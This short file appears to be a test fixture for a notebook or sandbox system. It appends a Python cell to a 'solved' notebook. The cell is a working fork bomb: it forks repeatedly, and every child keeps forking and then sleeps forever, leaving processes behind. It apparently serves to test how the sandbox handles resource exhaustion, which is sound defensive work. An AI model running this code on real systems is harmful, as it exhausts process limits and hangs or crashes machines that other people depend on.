# about: the solved notebook, then a cell that forks until the system refuses; every child forks
#   on and then sleeps forever (a fork bomb that leaves its processes behind)
# base: solved
# keeps: all
# --- cell
import os
import time

children = 0
for _ in range(100_000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1000)
        finally:
            os._exit(0)
    children += 1
